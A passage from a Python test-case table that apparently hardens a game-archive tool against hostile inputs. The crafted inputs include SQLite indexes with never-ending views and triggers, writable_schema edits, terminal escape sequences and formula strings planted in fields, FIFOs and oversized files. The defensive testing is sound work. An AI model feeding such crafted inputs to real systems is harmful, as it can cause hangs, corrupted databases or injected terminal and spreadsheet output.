        ("split-beside-inputs", "render-over-input", "puzzles-over-input"),
        prepare=_copy_into_output("in.trg", "in-1.trg", "game001.html", "puzzle001.hxl"),
        notes="no command writes over its input",
    ),
    Case(
        "dangling-links-in-the-output-folder",
        _copy(KASSEL, "kassel.hxl"),
        ("split", "render-svg", "render-html", "puzzles"),
        prepare=dangling_links,
        notes="a dangling link is a taken name",
    ),
    Case(
        "long-member-name",
        long_member_name,
        ("render-html", "render-svg", "split"),
        notes="a name is at most 255 bytes",
    ),
    *(
        Case(
            f"index-{name}",
            crafted_index(*statements),
            # index writes into the index it is given (a row of text where
            # a number belongs is for find and stats to refuse): only on the
            # indexes it refuses whole, which stay as they were
            ("find-db", "find-db-export", "stats-db", "dupes-db")
            + (("index-db", "serve-db") if name != "numbers-that-are-text" else ()),
            notes="a crafted index is refused",
        )
        for name, statements in {
            "view-never-ends": (
                "CREATE TABLE kept AS SELECT * FROM games",
                "DROP TABLE games",
                f"CREATE VIEW games AS {FOREVER} SELECT kept.* FROM c, kept",
            ),
            "trigger-never-ends": (
                "CREATE TABLE junk (x)",
                "CREATE TRIGGER grow AFTER INSERT ON files BEGIN"
                f" INSERT INTO junk {FOREVER} SELECT x FROM c; END",
                "CREATE TRIGGER grow2 AFTER UPDATE ON files BEGIN"
                f" INSERT INTO junk {FOREVER} SELECT x FROM c; END",
            ),
            "null-paths": (
                "CREATE TABLE loose AS SELECT * FROM files",
                "DROP TABLE files",
                "ALTER TABLE loose RENAME TO files",
                "UPDATE files SET path = NULL",
            ),
            "null-paths-under-hexhops-schema": (
                "CREATE TABLE loose AS SELECT * FROM files",
                "DROP TABLE files",
                "CREATE TABLE files (id, path, real, seq, size, mtime, disk_size, dev, ino,"
                " digest, error)",
                "INSERT INTO files SELECT * FROM loose",
                "DROP TABLE loose",
                "UPDATE files SET path = NULL",
                "PRAGMA writable_schema = ON",
                _hexhops_text_of_files,
            ),
            "numbers-that-are-text": ("UPDATE games SET number = 'abc', plies = 'x'",),
        }.items()
    ),
    *(
        Case(
            f"stored-analysis{name}",
            analysed_index(*statements),
            STORED_ANALYSIS_COMMANDS,
            notes="the analysis kept in the index",
        )
        for name, statements in {
            "": (),
            "-text-where-numbers-belong": (
                "UPDATE notes SET depth = 'deep', ply = 'x' || ply, side = char(27) || '[2J'",
                "UPDATE solved SET ply = 'x' || ply, depth = 'y'",
                "UPDATE analyses SET depth = 'z'",
            ),
            "-huge-values": (
                f"UPDATE notes SET first = zeroblob({SIZES['tag_value']}), kind = 'missed'",
                "UPDATE solved SET status = 'win', depth = -1",
            ),
            "-foreign-table": ("CREATE TABLE analyses_extra (x)",),
            # "12²".isdigit(), but int("12²") raises; int("٣") is 3
            "-digits-not-ascii": (
                "UPDATE solved SET ply = ply || '²' WHERE ply % 2 = 0",
                "UPDATE solved SET ply = '٣' || ply WHERE ply % 2 = 1",
            ),
            "-view-of-notes": (
                "CREATE TABLE kept AS SELECT * FROM notes",
                "DROP TABLE notes",
                f"CREATE VIEW notes AS {FOREVER} SELECT kept.* FROM c, kept",
            ),
            # the puzzles kept: damaged, a line that is no line, none kept (an older index)
            "-puzzle-facts-not-ascii": (
                "UPDATE puzzle_facts SET winners = '٣', motifs = char(27) || '[2J'",
            ),
            "-puzzle-facts-no-line": ("UPDATE puzzle_facts SET solution = 'A1XA2+ ' || solution",),
            "-puzzle-facts-huge": (
                f"UPDATE puzzle_facts SET solution = zeroblob({SIZES['tag_value']})",
                "UPDATE puzzle_facts SET defences = -1",
            ),
            "-puzzle-facts-missing": ("DROP TABLE puzzle_facts",),
        }.items()
    ),
    Case(
        "stored-analysis-both-notes-depth-2",
        analysed_index(depth="2"),
        STORED_ANALYSIS_COMMANDS,
        notes="a ply with a missed win and an allowed one: both notes, in words, with lines",
    ),
    Case(
        "large-zip",
        large_zip,
        ("merge", "dupes"),
        notes="flat memory in the writers",
        seconds=30.0,  # 190 MB read in about 4 s: a busy machine needs more than the usual bound
    ),
    Case(
        "long-glob",
        globs_folder,
        (
            *("find-player-glob", "find-tag-glob", "check-glob"),
            *("find-player-glob-read", "find-tag-glob-read"),
        ),
        notes="glob patterns in linear time",
    ),
    *(
        Case(
            f"names-bad-{number}",
            _names_case(lambda bad=bad: bad),
            NAMES_COMMANDS,
            notes="a names file that is not one: its file:line:col, exit 2",
        )
        for number, bad in enumerate(BAD_NAMES, 1)
    ),
    Case(
        "names-huge",
        _names_case(huge_names),
        NAMES_COMMANDS,
        notes="a names file larger than hexhop reads: refused, not read whole",
    ),
    Case(
        "names-many",
        _names_case(many_names),
        (*NAMES_COMMANDS, "players-suggest"),
        notes="150,000 players in a names file, each with conditions",
    ),
    Case(
        "names-fifo",
        names_fifo,
        ("players-names-fifo", "index-names-fifo", "players-names-zero", *ARCHIVE_COMMANDS),
        notes="no wait on a names file that never ends, given or beside the games",
    ),
    Case(
        "colors-fifo-and-zero",
        colors_fifo,
        ("render-colors-fifo", "render-colors-zero"),
        notes="no wait on a colours file that never ends",
    ),
    Case(
        "colors-inline",
        _file("a.hxl", lambda: GOOD_HEXALIT.encode()),
        ("render-colors-inline-deep", "render-colors-inline-unknown"),
        notes="inline colours, too deep or unknown",
    ),
    Case(
        "colors-malformed",
        _file("a.hxl", lambda: GOOD_HEXALIT.encode()),
        tuple(f"render-colors-{name}-{fmt}" for name in MALFORMED_COLORS for fmt in ("png", "svg")),
        notes="every colour is parsed whole: no malformed rgb() reaches the PNG writer",
    ),
    Case(
        "bidi-in-names",
        _file("a.hxl", bidi_names),
        (
            *("check-text", "check-json", "show", "moves", "find", "find-csv"),
            *("find-json", "find-jsonl", "stats", "stats-json", "dupes"),
        ),
        notes="control characters escaped in every output format",
    ),
    Case(
        "ascii-output",
        _file("a.hxl", bidi_names),
        ("check-text", "check-json", "find", "find-json", "show", "stats", "stats-json"),
        env=(("PYTHONIOENCODING", "ascii"),),
        notes="any output encoding, no traceback",
    ),
    Case(
        "one-vocabulary",
        _file("a.hxl", bidi_names),
        (
            *("find-sorted", "find-sorted-csv", "ls-json", "show-position", "moves-count"),
            *("moves-json-old", "split-quiet", "render-old-out", "stats-old-depth"),
            "show-listing",
        ),
        notes="one vocabulary of options; show-listing: the rules' own position listing",
    ),
    Case(
        "one-door",
        _file("a.hxl", bidi_names),
        ("find-sorted-plies", "stats-player-scan", "crosstable-player-scan", "ratings-player-scan"),
        notes="one set of sort keys; a player's games read now as the index chooses them",
    ),
    *(
        Case(
            f"standings-{name}",
            _file("a.hxl", build),
            ("crosstable-csv", "crosstable-json", "crosstable-html", "crosstable-pdf")
            + ("ratings-json",)
            + PEOPLE_COMMANDS,
            notes="the standings of a newsletter",
        )
        for name, build in {"bidi-names": bidi_names, "not-utf8": not_utf8}.items()
    ),
    *(
        Case(
            f"names-file-{name}",
            build,
            ("crosstable-json", "ratings-json", "stats-json", "crosstable") + PEOPLE_COMMANDS,
            notes="the club's names file beside the archive: a player is a person",
        )
        for name, build in {"hostile": hostile_names_file, "broken": broken_names_file}.items()
    ),
    *(
        Case(
            f"pages-{name}",
            build,
            (
                *("render-pdf-letter", "render-sheet-a5-landscape", "render-sheet-pdf-a4"),
                *("render-page-unknown", "puzzles-pdf", "crosstable-pdf-letter-landscape"),
            ),
            notes="pages a printer accepts",
        )
        for name, build in {
            "bidi-names": _file("a.hxl", bidi_names),
            "kassel": _copy(KASSEL, "kassel.hxl"),
        }.items()
    ),
    *(
        Case(
            f"puzzle-choice-{name}",
            build,
            ("puzzles-chosen", "puzzles-chosen-motif", "puzzles-sheet-default"),
            notes="an editor's choice of puzzles: limit, one per game, order, motif",
        )
        for name, build in {
            "bidi-names": _file("a.hxl", bidi_names),
            "not-utf8": _file("a.hxl", not_utf8),
            "kassel": _copy(KASSEL, "kassel.hxl"),
        }.items()
    ),
    *(
        Case(
            f"article-{name}",
            _file("a.hxl", build),
            ("render-article", "render-article-html"),
            notes="the game article",
        )
        for name, build in {
            "hostile-text": hostile_article,
            "bidi-names": bidi_names,
            "not-utf8": not_utf8,
            "control-characters": control_characters_text,
            "many-siblings": many_siblings,
        }.items()
    ),
    Case(
        "one-vocabulary-not-utf8",
        _file("a.hxl", not_utf8),
        ("find-sorted", "find-sorted-csv", "ls-json", "show-position", "split-quiet"),
        notes="one vocabulary of options",
    ),
    *(
        Case(
            f"chess-pieces-{name}",
            _file(file_name, build),
            (
                *("render-pieces-chess", "render-pieces-html", "render-pieces-colors"),
                *("render-pieces-colors-bad", "puzzles-pieces-chess", "show-pieces-chess"),
            ),
            notes="Trigeo with chess pieces",
        )
        for name, file_name, build in (
            ("trigeo-controls", "a.trg", trigeo_controls),
            ("mixed-games-bidi", "a.hxl", bidi_names),
            ("not-utf8", "a.hxl", not_utf8),
        )
    ),
    Case(
        "formula-names",
        _file("a.hxl", formula_names),
        ("find-csv", "find-sorted-csv", "crosstable-csv", "crosstable", "find", "crosstable-json"),
        notes="a CSV cell that starts as a formula starts with ' instead",
    ),
    Case(
        "crosstable-ring",
        _file("ring.hxl", ring),
        # render-png draws a picture of each of the 1,000 games (17 ms each):
        # its time is that of the games, not of the crosstable
        tuple(name for name in RECORD_COMMANDS if name != "render-png")
        + ("crosstable-csv", "crosstable-json", "crosstable-html", "crosstable-pdf")
        + ("crosstable-pdf-letter-landscape", "ratings-json")
        + ("crosstable-people", "ratings-html", "stats-keep-duplicates"),
        notes="the crosstable's size bound: a listing beyond MAX_TABLE_PLAYERS",
    ),
    Case("gzip-record", _file("a.hxl.gz", gzip_record), notes="compressed inputs"),
    *(
        Case(f"jobs-{name}", build, JOBS_COMMANDS, notes="one way to run work in parallel: -j 2")
        for name, build in {
            "control-characters": _file("a.hxl", control_characters),
            "many-siblings": _file("a.hxl", many_siblings),
            "odd-file-names": odd_names,
            "mutated-archives": mutated_archives,
        }.items()
    ),
    *(
        Case(f"dask-{name}", build, DASK_COMMANDS, notes="the work of -j on a Dask cluster")
        for name, build in {
            "control-characters": _file("a.hxl", control_characters),
            "odd-file-names": odd_names,
            "mutated-archives": mutated_archives,
        }.items()
    ),
    Case("tar-bz2", compressed_tar("w:bz2", "a.tar.bz2"), notes="compressed inputs"),
    Case("tar-xz", compressed_tar("w:xz", "a.tar.xz"), notes="compressed inputs"),
] + [
    Case(
        f"json-{name}",
        _file("a.json", content),
        tuple(JSON_COMMANDS),
        notes="convert checks a JSON document before it reads it",
    )
    for name, content in JSON_DOCUMENTS.items()
]

ALL_COMMANDS = {**COMMANDS, **JSON_COMMANDS, **CASE_COMMANDS}

__all__ = [
    "ALL_COMMANDS",
    "ARCHIVE_COMMANDS",
    "CASES",
    "CASE_COMMANDS",
    "COMMANDS",
    "ONE_PER_READER",
    "Case",
    "OUTPUT_MIB",
    "PEAK_MIB",
    "REPORTS",
    "SECONDS",
    "SIZES",
    "TERMINAL_OUTPUT",
]
